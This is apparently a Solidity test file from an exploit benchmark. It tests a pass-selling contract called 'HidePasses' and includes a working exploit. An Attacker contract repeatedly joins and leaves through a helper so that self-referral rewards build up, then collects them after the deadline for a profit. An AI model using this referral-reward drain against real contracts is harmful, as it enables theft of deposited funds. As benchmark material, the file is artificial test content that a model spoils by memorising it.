// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./HidePasses.sol";

// assay-canary-8615d9e0-b2cf-4345-9b0b-ca6b2dc17c1d

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// Comes and goes.
contract Goer {
    function comeAndGo(HidePasses passes, uint256 times) external {
        passes.dollar().approve(address(passes), type(uint256).max);
        for (uint256 i = 0; i < times; i++) {
            passes.join(msg.sender);
            passes.leave();
        }
        passes.dollar().transfer(msg.sender, passes.PRICE());
    }
}

contract Attacker {
    Goer private goer = new Goer();

    function before(HidePasses passes) external {
        passes.dollar().transfer(address(goer), passes.PRICE());
        goer.comeAndGo(passes, 110);
    }

    function later(HidePasses passes) external {
        passes.fetchThanks();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant WARDEN = address(0x3A4D);
    address private constant LIV = address(0x11F);
    address private constant PER = address(0x9E4);
    uint256 private constant START = 1_769_500_000;

    Dollar public dollar;
    HidePasses private passes;
    Attacker private friend;

    function setUp() public {
        vm.warp(START);
        dollar = new Dollar();
        passes = new HidePasses(dollar, WARDEN, START + 30 days);
        for (uint160 i = 1; i <= 12; i++) _join(address(0x6000 + i), address(0));
        friend = new Attacker();
        dollar.transfer(address(friend), 80e6);
    }

    function _join(address who, address with) private {
        dollar.transfer(who, 80e6);
        vm.startPrank(who);
        dollar.approve(address(passes), type(uint256).max);
        passes.join(with);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(passes.passes() == 12 && passes.hasPass(address(0x6001)) && passes.promised() == 0, "joined");
        vm.prank(address(0x6001));
        require(passes.leave() == 80e6 && dollar.balanceOf(address(0x6001)) == 80e6 && passes.passes() == 11, "left");
        _join(address(0x6001), LIV);
        _join(PER, LIV);
        require(passes.thanks(LIV) == 16e6 && passes.broughtBy(PER) == LIV && passes.promised() == 16e6, "brought");
        vm.warp(START + 30 days);
        vm.prank(WARDEN);
        require(passes.takeIn() == 1024e6 && dollar.balanceOf(WARDEN) == 1024e6, "taken in");
        vm.prank(LIV);
        require(passes.fetchThanks() == 16e6 && dollar.balanceOf(LIV) == 16e6, "thanked");
        vm.prank(LIV);
        require(passes.fetchThanks() == 0 && dollar.balanceOf(address(passes)) == 0, "once");
    }

    function test_RefusesToJoin() public {
        vm.startPrank(address(0x6001));
        vm.expectRevert("got one");
        passes.join(address(0));
        vm.stopPrank();
        dollar.approve(address(passes), type(uint256).max);
        vm.expectRevert("that's you");
        passes.join(address(this));
        vm.warp(START + 30 days);
        vm.expectRevert(abi.encodeWithSelector(HidePasses.TooLate.selector));
        passes.join(address(0));
    }

    function test_RefusesToLeave() public {
        vm.expectRevert(abi.encodeWithSelector(HidePasses.NoPass.selector, address(this)));
        passes.leave();
        vm.warp(START + 30 days);
        vm.expectRevert(abi.encodeWithSelector(HidePasses.TooLate.selector));
        vm.prank(address(0x6001));
        passes.leave();
    }

    function test_RefusesToPay() public {
        vm.expectRevert(abi.encodeWithSelector(HidePasses.TooEarly.selector));
        passes.fetchThanks();
        vm.startPrank(WARDEN);
        vm.expectRevert(abi.encodeWithSelector(HidePasses.TooEarly.selector));
        passes.takeIn();
        vm.stopPrank();
        vm.warp(START + 30 days);
        vm.expectRevert(abi.encodeWithSelector(HidePasses.NotWarden.selector, address(this)));
        passes.takeIn();
    }

    function exploit() public {
        friend.before(passes);
        vm.warp(START + 30 days);
        friend.later(passes);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(friend)) >= 880e6, "no gain");
    }

    function target() public view returns (address) {
        return address(passes);
    }

    function attacker() public view returns (address) {
        return address(friend);
    }
}
